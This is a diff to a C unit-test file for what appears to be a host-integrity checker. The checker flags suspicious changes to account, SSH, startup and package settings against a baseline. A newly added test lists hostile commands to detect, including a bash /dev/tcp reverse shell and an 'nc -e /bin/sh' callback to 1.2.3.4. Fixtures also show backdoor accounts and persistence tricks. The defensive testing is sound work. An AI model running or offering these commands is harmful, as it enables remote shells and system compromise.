@@ -6,16 +6,20 @@
 #include "acquire/base/cleanup.h"
 #include "tests/unit/meaning_fixture.h"
 
-#define PASSWD "root:x:0:0:root:/root:/bin/bash\n" \
+#define PASSWD                                              \
+	"root:x:0:0:root:/root:/bin/bash\n"                 \
 	"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" \
 	"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
 #define HASH "$y$j9T$Ab3dEfGhIjKlMn$Zy"
 #define SHADOW "root:*:19700:0:99999:7:::\nadmin:" HASH "1:19700:0:99999:7:::\n"
 #define GROUP "root:x:0:\nsudo:x:27:admin\nwww-data:x:33:\n"
-#define KEY "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
+#define KEY \
+	"AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
 #define PRINT "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
-#define CRONTAB "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
-#define SSHD "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nUsePAM yes\n"
+#define CRONTAB \
+	"SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
+#define SSHD \
+	"Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nUsePAM yes\n"
 
 static const struct saying accounts[] = {
 	{ "etc/passwd", PASSWD, PASSWD "toor:x:0:0::/root:/bin/bash\n",
@@ -25,19 +29,21 @@ static const struct saying accounts[] = {
 	{ "etc/passwd", PASSWD, PASSWD "svc:x:999:999::/:/usr/sbin/nologin\n",
 	  "1 line added: svc uid 999", false },
 	{ "etc/passwd", PASSWD, PASSWD "eve::1001:1001::/home/eve:/bin/sh\n",
-	  "1 line added: eve uid 1001 no password needed, shell /bin/sh", true },
+	  "1 line added: eve uid 1001 no password needed, shell /bin/sh",
+	  true },
 	{ "etc/passwd", PASSWD, PASSWD "eve:" HASH ":1001:1::/:/bin/sh\n",
 	  "1 line added: eve uid 1001 password set in passwd, shell /bin/sh",
 	  true },
-	{ "etc/passwd", PASSWD, PASSWD "eve:x:0000:1001::/home/eve:/bin/false\n",
+	{ "etc/passwd", PASSWD,
+	  PASSWD "eve:x:0000:1001::/home/eve:/bin/false\n",
 	  "1 line added: eve uid 0000", true },
 	/* which of several is shown: the dangerous one first */
-	{ "etc/passwd", PASSWD, "a:x:1001:1::/:/bin/sh\n" PASSWD
-	  "toor:x:0:0::/:/bin/sh\n",
+	{ "etc/passwd", PASSWD,
+	  "a:x:1001:1::/:/bin/sh\n" PASSWD "toor:x:0:0::/:/bin/sh\n",
 	  "2 lines added: toor uid 0, shell /bin/sh; a uid 1001, shell /bin/sh",
 	  true },
-	{ "etc/passwd",
-	  PASSWD, "root:x:0:0:root:/root:/bin/bash\n"
+	{ "etc/passwd", PASSWD,
+	  "root:x:0:0:root:/root:/bin/bash\n"
 	  "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
 	  "www-data:x:33:33:www-data:/var/www:/bin/bash\n",
 	  "1 line changed: www-data shell /bin/bash, the herd's /usr/sbin/nologin",
@@ -53,8 +59,10 @@ static const struct saying accounts[] = {
 	  "1 line added: a line that is no account", false },
 
 	{ "etc/shadow", SHADOW,
-	  "root:" HASH "0:19700:0:99999:7:::\nadmin:" HASH "1:19700:0:99999:7:::\n",
-	  "1 line changed: root: password set, the herd has no password", true },
+	  "root:" HASH "0:19700:0:99999:7:::\nadmin:" HASH
+	  "1:19700:0:99999:7:::\n",
+	  "1 line changed: root: password set, the herd has no password",
+	  true },
 	{ "etc/shadow", SHADOW,
 	  "root:*:19700:0:99999:7:::\nadmin:" HASH "2:19700:0:99999:7:::\n",
 	  "1 line changed: admin: password changed", true },
@@ -72,7 +80,8 @@ static const struct saying accounts[] = {
 	{ "etc/shadow-", SHADOW, "root:*:19700:0:99999:7:::\n",
 	  "1 line removed: admin: password set", false },
 
-	{ "etc/group", GROUP, "root:x:0:\nsudo:x:27:admin,eve\nwww-data:x:33:\n",
+	{ "etc/group", GROUP,
+	  "root:x:0:\nsudo:x:27:admin,eve\nwww-data:x:33:\n",
 	  "1 line changed: group sudo gained eve", true },
 	{ "etc/group", GROUP, "root:x:0:\nsudo:x:27:\nwww-data:x:33:eve,bob\n",
 	  "2 lines changed: group sudo lost admin; group www-data gained eve, bob",
@@ -105,11 +114,13 @@ static const struct saying keys[] = {
 	  "1 key added: ssh-ed25519 " PRINT " github.com", true },
 	{ "home/a/.ssh/authorized_keys", "",
 	  "from=\"10.0.0.0/8\" ssh-ed25519 " KEY "\n",
-	  "1 key added: ssh-ed25519 " PRINT ", with from=\"10.0.0.0/8\"", false },
+	  "1 key added: ssh-ed25519 " PRINT ", with from=\"10.0.0.0/8\"",
+	  false },
 	{ "home/a/.ssh/authorized_keys", "ssh-ed25519 " KEY " a@b\n",
 	  "command=\"/tmp/x \\\" y\",no-pty ssh-ed25519 " KEY " a@b\n",
 	  "1 key changed: ssh-ed25519 " PRINT
-	  " a@b, with command=\"/tmp/x \\x5c\" y\",no-pty", true },
+	  " a@b, with command=\"/tmp/x \\x5c\" y\",no-pty",
+	  true },
 	{ "home/a/.ssh/authorized_keys", "ssh-ed25519 " KEY " a@b\n",
 	  "ssh-ed25519 " KEY " other@host\n",
 	  "1 key changed: ssh-ed25519 " PRINT " other@host", false },
@@ -122,7 +133,8 @@ static const struct saying keys[] = {
 	  "content differs, 2 bytes more: 20 bytes", false },
 	{ "home/a/notes", "hello\n",
 	  "hello\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n",
-	  "content differs, 52 bytes more: 58 bytes; holds a private key", true },
+	  "content differs, 52 bytes more: 58 bytes; holds a private key",
+	  true },
 };
 
 static const struct saying starts[] = {
@@ -146,12 +158,14 @@ static const struct saying starts[] = {
 	  "[Install]\nWantedBy=multi-user.target\n",
 	  "new file, 6 lines: ExecStart=/usr/lib/dbus/h; [Unit]; "
 	  "Description=D-Bus helper; [Service]; [Install]; "
-	  "WantedBy=multi-user.target", false },
+	  "WantedBy=multi-user.target",
+	  false },
 	{ "usr/lib/systemd/system/cron.service",
 	  "[Service]\nExecStart=/usr/sbin/cron -f\nRestart=on-failure\n",
 	  "[Service]\nExecStart=/var/tmp/cron -f\nRestart=on-failure\n",
 	  "1 line changed: ExecStart=/var/tmp/cron -f, the herd's "
-	  "/usr/sbin/cron -f", true },
+	  "/usr/sbin/cron -f",
+	  true },
 	{ "etc/systemd/system/x.timer", "[Timer]\nOnCalendar=daily\n",
 	  "[Timer]\nOnCalendar=minutely\n",
 	  "1 line changed: OnCalendar=minutely, the herd's daily", false },
@@ -180,8 +194,10 @@ static const struct saying starts[] = {
 	{ "usr/lib/python3/dist-packages/b.pth", "/a\n", "/a\n/b\n",
 	  "1 line added: /b", false },
 	{ "srv/app/.git/hooks/post-merge", NULL, "#!/bin/sh\n./deploy\n",
-	  "git hook post-merge: new file, 2 lines: ./deploy; #!/bin/sh", false },
-	{ "etc/update-motd.d/10-x", "#!/bin/sh\n", "#!/bin/sh\nid >/dev/shm/o\n",
+	  "git hook post-merge: new file, 2 lines: ./deploy; #!/bin/sh",
+	  false },
+	{ "etc/update-motd.d/10-x", "#!/bin/sh\n",
+	  "#!/bin/sh\nid >/dev/shm/o\n",
 	  "run at each login: 1 line added: id >/dev/shm/o", true },
 	{ "etc/rc.local", "#!/bin/sh -e\nexit 0\n",
 	  "#!/bin/sh -e\nnohup /opt/m &\nexit 0\n",
@@ -197,7 +213,8 @@ static const struct saying starts[] = {
 static const struct saying settings[] = {
 	{ "etc/hosts", "127.0.0.1\tlocalhost\n",
 	  "127.0.0.1\tlocalhost\n10.66.0.1\tsecurity.debian.org deb.debian.org\n",
-	  "1 line added: security.debian.org deb.debian.org is 10.66.0.1", true },
+	  "1 line added: security.debian.org deb.debian.org is 10.66.0.1",
+	  true },
 	{ "etc/hosts", "127.0.0.1 localhost\n10.0.0.1 db\n",
 	  "127.0.0.1 localhost\n10.0.0.2 db\n",
 	  "1 line changed: db is 10.0.0.2, the herd's 10.0.0.1", false },
@@ -216,7 +233,8 @@ static const struct saying settings[] = {
 	  "1 line added: auth sufficient pam_permit.so", true },
 	{ "etc/pam.d/common-auth", "auth required pam_unix.so\n@include x\n",
 	  "@include x\n", "1 line removed: auth required pam_unix.so", true },
-	{ "etc/resolv.conf", "nameserver 10.0.0.2\n", "nameserver 203.0.113.9\n",
+	{ "etc/resolv.conf", "nameserver 10.0.0.2\n",
+	  "nameserver 203.0.113.9\n",
 	  "1 line added, 1 removed: nameserver 203.0.113.9", false },
 	{ "etc/nsswitch.conf", "passwd: files systemd\ngroup: files\n",
 	  "passwd: x files systemd\ngroup: files\n",
@@ -224,8 +242,10 @@ static const struct saying settings[] = {
 	  false },
 	{ "etc/apt/apt.conf.d/05x", NULL,
 	  "// c\nAPT::Update::Pre-Invoke {\"/usr/bin/x\";};\n",
-	  "new file, 1 line: APT::Update::Pre-Invoke {\"/usr/bin/x\";};", true },
-	{ "etc/apt/sources.list", "deb http://deb.debian.org/debian bookworm main\n",
+	  "new file, 1 line: APT::Update::Pre-Invoke {\"/usr/bin/x\";};",
+	  true },
+	{ "etc/apt/sources.list",
+	  "deb http://deb.debian.org/debian bookworm main\n",
 	  "deb http://deb.debian.org/debian bookworm main\n"
 	  "deb [trusted=yes] http://203.0.113.1/d ./\n",
 	  "1 line added: deb [trusted=yes] http://203.0.113.1/d ./", true },
@@ -279,12 +299,55 @@ static void test_settings(void **state)
 	assert_int_equal(check_sayings(settings, ARRAY_SIZE(settings)), 0);
 }
 
+/* Which commands are loud. */
+static void test_shady(void **state)
+{
+	static const char *const shady[] = {
+		"echo aWQ= | sh",
+		"x|bash",
+		"x | /bin/sh -s",
+		"(x |sh)",
+		"x|sort|python3 -",
+		"bash -i >& /dev/tcp/1.2.3.4/9",
+		"/usr/bin/nc -e /bin/sh 1.2.3.4 9",
+		"/usr/lib/.x/y",
+	};
+	static const char *const fine[] = {
+		"x | sha256sum",
+		"rsync -a a b",
+		"ssh -i key host",
+		"cd ../../x",
+		"x || true",
+		"x |",
+		"|",
+		"chmod 444 x",
+		"x | shuf",
+		"x|/",
+		"eval \"$(dircolors)\"",
+		"[ -f ~/.bash_aliases ]",
+	};
+	char line[200];
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(shady); i++) {
+		snprintf(line, sizeof(line), "#!/bin/sh\n%s\n", shady[i]);
+		if (!strings("etc/rc.local", line, "#!/bin/sh\n").loud)
+			fail_msg("%s", shady[i]);
+	}
+	for (size_t i = 0; i < ARRAY_SIZE(fine); i++) {
+		snprintf(line, sizeof(line), "#!/bin/sh\n%s\n", fine[i]);
+		if (strings("etc/rc.local", line, "#!/bin/sh\n").loud)
+			fail_msg("%s", fine[i]);
+	}
+}
+
 /* No part of a password's hash is ever shown, whatever the line looks like. */
 static void test_no_hash(void **state)
 {
 	static const char *const lines[] = {
-		"a:" HASH ":1::::::\n", HASH "\n", "a: " HASH ":1\n",
-		"a:x:" HASH "\n", "\ta:" HASH "\n", "a:" HASH, "::" HASH ":\n",
+		"a:" HASH ":1::::::\n", HASH "\n",	  "a: " HASH ":1\n",
+		"a:x:" HASH "\n",	"\ta:" HASH "\n", "a:" HASH,
+		"::" HASH ":\n",
 	};
 	static const char *const paths[] = { "etc/shadow", "etc/gshadow",
 					     "etc/shadow-",
@@ -303,33 +366,56 @@ static void test_no_hash(void **state)
 			assert_null(strstr(m.why, "j9T"));
 		}
 	}
-	assert_null(strstr(strings("etc/passwd", "a:" HASH ":1:1::/:/b\n",
-				   "").why, "j9T"));
+	assert_null(
+		strstr(strings("etc/passwd", "a:" HASH ":1:1::/:/b\n", "").why,
+		       "j9T"));
 }
 
 /* ---- hostile ---- */
 
 static const char *const all_paths[] = {
-	"etc/passwd", "etc/shadow", "etc/group", "etc/sudoers",
-	"root/.ssh/authorized_keys", "etc/crontab", "etc/hosts",
-	"etc/ssh/sshd_config", "etc/pam.d/x", "etc/systemd/system/x.service",
-	"etc/ld.so.preload", "etc/profile", "etc/udev/rules.d/x",
-	"etc/modprobe.d/x", "etc/modules", "etc/resolv.conf",
-	"etc/nsswitch.conf", "etc/apt/apt.conf", "etc/apt/sources.list",
-	"x/.git/hooks/y", "a/site-packages/x.pth", "etc/nginx/x",
-	"etc/environment", "etc/sysctl.conf", "var/www/x.php", "etc/x",
-	"etc/logrotate.conf", "home/x", "root/.bash_history", "etc/cron.d/x",
+	"etc/passwd",
+	"etc/shadow",
+	"etc/group",
+	"etc/sudoers",
+	"root/.ssh/authorized_keys",
+	"etc/crontab",
+	"etc/hosts",
+	"etc/ssh/sshd_config",
+	"etc/pam.d/x",
+	"etc/systemd/system/x.service",
+	"etc/ld.so.preload",
+	"etc/profile",
+	"etc/udev/rules.d/x",
+	"etc/modprobe.d/x",
+	"etc/modules",
+	"etc/resolv.conf",
+	"etc/nsswitch.conf",
+	"etc/apt/apt.conf",
+	"etc/apt/sources.list",
+	"x/.git/hooks/y",
+	"a/site-packages/x.pth",
+	"etc/nginx/x",
+	"etc/environment",
+	"etc/sysctl.conf",
+	"var/www/x.php",
+	"etc/x",
+	"etc/logrotate.conf",
+	"home/x",
+	"root/.bash_history",
+	"etc/cron.d/x",
 };
 
 static void test_escaped(void **state)
 {
-	static const char evil[] = "a\x1b[2J\x07:\xff\xfe:0:0:\xe2\x80\xae:/:\x01 "
-				   "\xc3\xa9\x7f\xc2\x85\\\n";
+	static const char evil[] =
+		"a\x1b[2J\x07:\xff\xfe:0:0:\xe2\x80\xae:/:\x01 "
+		"\xc3\xa9\x7f\xc2\x85\\\n";
 
 	(void)state;
 	for (size_t i = 0; i < ARRAY_SIZE(all_paths); i++) {
-		struct herd_meaning m = texts(all_paths[i], evil,
-					      sizeof(evil) - 1, "b\n", 2);
+		struct herd_meaning m =
+			texts(all_paths[i], evil, sizeof(evil) - 1, "b\n", 2);
 
 		for (const char *p = m.why; *p; p++)
 			assert_true((unsigned char)*p >= 0x20 && *p != 0x7f);
@@ -365,7 +451,8 @@ static void test_huge(void **state)
 	for (size_t i = 0; i < size; i++)
 		a[i] = i % 3 == 2 ? '\n' : (char)('!' + i / 3 % 90);
 	for (size_t i = 0; i < ARRAY_SIZE(all_paths); i++)
-		texts(all_paths[i], a, size / 2, a + size / 2 + 1, size / 2 - 1);
+		texts(all_paths[i], a, size / 2, a + size / 2 + 1,
+		      size / 2 - 1);
 }
 
 /* What lies behind what is looked at is said to be. */
@@ -400,12 +487,13 @@ static void test_no_text(void **state)
 	own.text = NULL;
 	own.size = 1234;
 	own.len = 0;
-	assert_string_equal(meaning("etc/passwd", HERD_REASON_CONTENT, &own,
-				    &herd).why,
-			    "content differs, 1,233 bytes more: 1,234 bytes");
+	assert_string_equal(
+		meaning("etc/passwd", HERD_REASON_CONTENT, &own, &herd).why,
+		"content differs, 1,233 bytes more: 1,234 bytes");
 	herd.absent = true;
-	assert_string_equal(meaning("etc/passwd", HERD_REASON_ADDED, &own,
-				    &herd).why, "new file, 1,234 bytes");
+	assert_string_equal(
+		meaning("etc/passwd", HERD_REASON_ADDED, &own, &herd).why,
+		"new file, 1,234 bytes");
 }
 
 static void test_long_lines_cut(void **state)
@@ -431,6 +519,7 @@ int main(void)
 		cmocka_unit_test(test_keys),
 		cmocka_unit_test(test_starts),
 		cmocka_unit_test(test_settings),
+		cmocka_unit_test(test_shady),
 		cmocka_unit_test(test_no_hash),
 		cmocka_unit_test(test_escaped),
 		cmocka_unit_test(test_huge),
